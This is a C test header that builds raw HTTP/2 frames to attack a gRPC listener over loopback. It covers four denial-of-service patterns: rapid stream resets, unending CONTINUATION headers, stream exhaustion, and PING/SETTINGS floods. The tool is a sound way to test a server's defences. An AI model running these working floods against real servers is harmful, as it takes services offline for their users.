/* http2_attacker.h -- connections that send HTTP/2 frames no client of gRPC sends, for tests of
 * what a listener does about them. Each kind repeats one thing for as long as the test wants, and
 * connects again whenever it is cut off. */
#ifndef LEAT_TEST_HTTP2_ATTACKER_H
#define LEAT_TEST_HTTP2_ATTACKER_H

#include <arpa/inet.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

typedef enum attack {
    ATTACK_RESETS,       /* Opens streams and resets each at once. */
    ATTACK_CONTINUATION, /* One stream, whose headers never end. */
    ATTACK_STREAMS,      /* Opens as many streams as it can, and leaves them open. */
    ATTACK_PINGS,        /* PING and SETTINGS frames, whose replies it does not read. */
} attack;

typedef struct attacker {
    attack kind;
    int port;
    int message_first; /* 1: makes a call with a message first, as a client does. */
    const char *token; /* The token that calls carry; NULL: none. */
    atomic_bool stop;
    atomic_llong sent; /* Bytes, over all connections. */
    atomic_int cut;    /* How often the listener has ended a connection. */
    pthread_t thread;
} attacker;

enum { FRAME_DATA = 0, FRAME_HEADERS = 1, FRAME_RESET = 3, FRAME_SETTINGS = 4, FRAME_PING = 6 };
enum { FRAME_CONTINUATION = 9, END_STREAM = 1, END_HEADERS = 4 };

static inline uint8_t *put_frame(uint8_t *p, uint32_t n, uint8_t kind, uint8_t flags, uint32_t id)
{
    const uint8_t head[9] = {
        (uint8_t)(n >> 16),  (uint8_t)(n >> 8),   (uint8_t)n,         kind,       flags,
        (uint8_t)(id >> 24), (uint8_t)(id >> 16), (uint8_t)(id >> 8), (uint8_t)id};
    memcpy(p, head, sizeof head);
    return p + sizeof head;
}

static inline uint8_t *put_text(uint8_t *p, const char *s)
{
    *p++ = (uint8_t)strlen(s);
    memcpy(p, s, strlen(s));
    return p + strlen(s);
}

/* The headers of a call. Each goes to the table of HPACK: the next call names them by numbers. */
static inline uint8_t *put_first_headers(uint8_t *p, const char *token)
{
    char bearer[200] = "Bearer ";
    *p++ = 0x83; /* :method: POST */
    *p++ = 0x86; /* :scheme: http */
    *p++ = 0x44; /* :path */
    p = put_text(p, "/test/Echo");
    *p++ = 0x41; /* :authority */
    p = put_text(p, "localhost");
    *p++ = 0x40;
    p = put_text(p, "te");
    p = put_text(p, "trailers");
    *p++ = 0x5f; /* content-type */
    p = put_text(p, "application/grpc");
    *p++ = 0x40;
    p = put_text(p, "authorization");
    return put_text(p, token ? strcat(bearer, token) : "none");
}

static inline uint8_t *put_next_headers(uint8_t *p)
{
    const uint8_t numbers[] = {0x83, 0x86, 0xc2, 0xc1, 0xc0, 0xbf, 0xbe};
    memcpy(p, numbers, sizeof numbers);
    return p + sizeof numbers;
}

static inline bool attacker_send(attacker *a, int fd, const void *bytes, size_t n)
{
    for (size_t at = 0; at < n && !atomic_load(&a->stop);) {
        ssize_t k = send(fd, (const char *)bytes + at, n - at, MSG_NOSIGNAL);
        if (k < 0)
            return false; /* Cut off, or the listener has not read for a second. */
        at += (size_t)k;
        atomic_fetch_add(&a->sent, k);
    }
    return !atomic_load(&a->stop);
}

static inline int attacker_connect(attacker *a)
{
    struct sockaddr_in to = {.sin_family = AF_INET,
                             .sin_port = htons((uint16_t)a->port),
                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct timeval patience = {.tv_sec = 1};
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    if (connect(fd, (struct sockaddr *)&to, sizeof to)) {
        close(fd);
        return -1;
    }
    return fd;
}

/* Preface, settings, and the first stream, with a whole message or without END_STREAM. */
static inline bool attacker_begin(attacker *a, int fd)
{
    uint8_t bytes[1024], headers[512], *p = bytes;
    size_t n = (size_t)(put_first_headers(headers, a->token) - headers);
    memcpy(p, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    p = put_frame(p + 24, 0, FRAME_SETTINGS, 0, 0);
    p = put_frame(p, (uint32_t)n, FRAME_HEADERS, END_HEADERS, 1);
    memcpy(p, headers, n);
    p += n;
    if (a->message_first) {
        p = put_frame(p, 5, FRAME_DATA, END_STREAM, 1);
        memset(p, 0, 5);
        p += 5;
    } else {
        p = put_frame(p, 4, FRAME_RESET, 0, 1);
        memset(p, 0, 4);
        p += 4;
    }
    bool ok = attacker_send(a, fd, bytes, (size_t)(p - bytes));
    if (a->message_first)
        usleep(100000); /* The listener has accepted the call before the attack begins. */
    return ok;
}

/* Opens n streams of calls whose message does not come. */
static inline void attacker_open(attacker *a, int fd, int n)
{
    uint8_t bytes[1024], headers[512], *p = bytes;
    size_t size = (size_t)(put_first_headers(headers, a->token) - headers);
    memcpy(p, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    p = put_frame(p + 24, 0, FRAME_SETTINGS, 0, 0);
    p = put_frame(p, (uint32_t)size, FRAME_HEADERS, END_HEADERS, 1);
    memcpy(p, headers, size);
    p += size;
    for (int i = 1; i < n; i++) {
        p = put_frame(p, 7, FRAME_HEADERS, END_HEADERS, (uint32_t)(2 * i + 1));
        p = put_next_headers(p);
    }
    attacker_send(a, fd, bytes, (size_t)(p - bytes));
}

static inline void attack_streams(attacker *a, int fd, bool reset)
{
    static _Thread_local uint8_t bytes[64 << 10];
    for (uint32_t id = 3; !atomic_load(&a->stop) && id < 0x7fffff00;) {
        uint8_t *p = bytes;
        while (p < bytes + sizeof bytes - 64) {
            p = put_frame(p, 7, FRAME_HEADERS, END_HEADERS, id);
            p = put_next_headers(p);
            if (reset) {
                p = put_frame(p, 4, FRAME_RESET, 0, id);
                memset(p, 0, 4);
                p += 4;
            }
            id += 2;
        }
        if (!attacker_send(a, fd, bytes, (size_t)(p - bytes)))
            return;
        if (!reset && id > 30000) {
            char byte;
            while (!atomic_load(&a->stop) && recv(fd, &byte, 1, MSG_DONTWAIT) != 0)
                usleep(1000);
            return;
        }
    }
}

static inline void attack_continuation(attacker *a, int fd)
{
    static _Thread_local uint8_t bytes[16393];
    /* A header without a name in the table, whose name has 2^28 bytes. */
    const uint8_t begin[] = {0x40, 0x7f, 0xff, 0xff, 0xff, 0x7f};
    uint8_t *p = put_frame(bytes, sizeof begin, FRAME_HEADERS, 0, 3);
    memcpy(p, begin, sizeof begin);
    bool ok = attacker_send(a, fd, bytes, 9 + sizeof begin);
    put_frame(bytes, 16384, FRAME_CONTINUATION, 0, 3);
    memset(bytes + 9, 'a', 16384);
    while (ok)
        ok = attacker_send(a, fd, bytes, sizeof bytes);
}

static inline void attack_pings(attacker *a, int fd)
{
    uint8_t bytes[2600], *p = bytes;
    for (int i = 0; i < 100; i++) {
        p = put_frame(p, 8, FRAME_PING, 0, 0);
        memset(p, i, 8);
        p = put_frame(p + 8, 0, FRAME_SETTINGS, 0, 0);
    }
    while (attacker_send(a, fd, bytes, (size_t)(p - bytes)))
        ;
}

static inline void *attack_on(void *arg)
{
    attacker *a = arg;
    while (!atomic_load(&a->stop)) {
        int fd = attacker_connect(a);
        if (fd < 0) {
            usleep(1000);
            continue;
        }
        if (attacker_begin(a, fd)) {
            if (a->kind == ATTACK_CONTINUATION)
                attack_continuation(a, fd);
            else if (a->kind == ATTACK_PINGS)
                attack_pings(a, fd);
            else
                attack_streams(a, fd, a->kind == ATTACK_RESETS);
        }
        atomic_fetch_add(&a->cut, !atomic_load(&a->stop));
        close(fd);
    }
    return NULL;
}

static inline void attacker_start(attacker *a)
{
    pthread_create(&a->thread, NULL, attack_on, a);
}

static inline void attacker_stop(attacker *a)
{
    atomic_store(&a->stop, true);
    pthread_join(a->thread, NULL);
}

#endif
